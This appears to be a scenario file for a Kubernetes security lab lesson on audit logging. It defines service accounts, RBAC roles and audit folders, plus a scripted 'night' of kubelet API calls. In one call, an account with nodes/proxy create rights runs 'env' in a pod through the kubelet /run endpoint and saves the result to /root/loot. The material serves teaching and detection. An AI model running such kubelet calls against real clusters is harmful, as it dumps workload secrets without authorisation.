// Lesson 16 begins in a harbour that writes nothing down. Its API server has two folders mounted for an audit, and no orders for one.

import type { Scene } from "#sandbox/scene.ts";
import { webPod } from "../../_kit/crew.ts";
import { bindRole, clusterRole, namespace, secret, serviceAccount } from "../../_kit/harbour.ts";

/** Three callers of one night; the second is not what it says. */
const night = `for who in stoker lamplighter purser; do
  kubectl -n harbour create token $who > /tmp/$who
done
call() { curl -sk -m 5 -o "$3" -X "$4" -H "Authorization: Bearer $(cat /tmp/$1)" "https://node01:10250$2"; }
call stoker /metrics /dev/null GET
call lamplighter '/run/default/web-node01/web?cmd=env' /root/loot POST
call purser /pods /dev/null GET
rm -f /tmp/stoker /tmp/lamplighter /tmp/purser
`;

const account = (name: string) => ({ kind: "ServiceAccount", name, namespace: "harbour" }) as const;

export const scene: Scene = {
  seed: "the-log-book",
  machines: [
    { name: "node01", image: "worker", files: { "/etc/kubernetes/manifests/web.yaml": webPod } },
    {
      name: "controlplane",
      image: "controlplane",
      files: {
        "/root/night.sh": night,
        "/etc/kubernetes/audit/README": "The API server sees this folder, and /var/log/kubernetes.\n",
        "/var/log/kubernetes/README": "The API server may write here.\n",
      },
      edits: {
        "/etc/kubernetes/manifests/kube-apiserver.yaml": [
          [
            "    volumeMounts:\n",
            "    volumeMounts:\n    - mountPath: /etc/kubernetes/audit\n      name: audit-policy\n      readOnly: true\n    - mountPath: /var/log/kubernetes\n      name: audit-log\n",
          ],
          [
            "  volumes:\n",
            "  volumes:\n  - hostPath:\n      path: /etc/kubernetes/audit\n      type: DirectoryOrCreate\n    name: audit-policy\n  - hostPath:\n      path: /var/log/kubernetes\n      type: DirectoryOrCreate\n    name: audit-log\n",
          ],
        ],
      },
    },
    { name: "outsider", image: "outsider" },
  ],
  terminals: [
    { machine: "controlplane", user: "root" },
    { machine: "node01", user: "root" },
  ],
  objects: [
    namespace("harbour"),
    serviceAccount("harbour", "stoker"),
    serviceAccount("harbour", "lamplighter"),
    serviceAccount("harbour", "purser"),
    secret("harbour", "treasure", { map: "19.4N 155.6W" }),
    clusterRole("scrape", [{ apiGroups: [""], resources: ["nodes/metrics"], verbs: ["get"] }]),
    bindRole("scrape", "scrape", [account("stoker")]),
    clusterRole("lamps", [{ apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get", "create"] }]),
    bindRole("lamps", "lamps", [account("lamplighter")]),
    clusterRole("purse", [{ apiGroups: [""], resources: ["nodes/pods"], verbs: ["get"] }]),
    bindRole("purse", "purse", [account("purser")]),
  ],
};
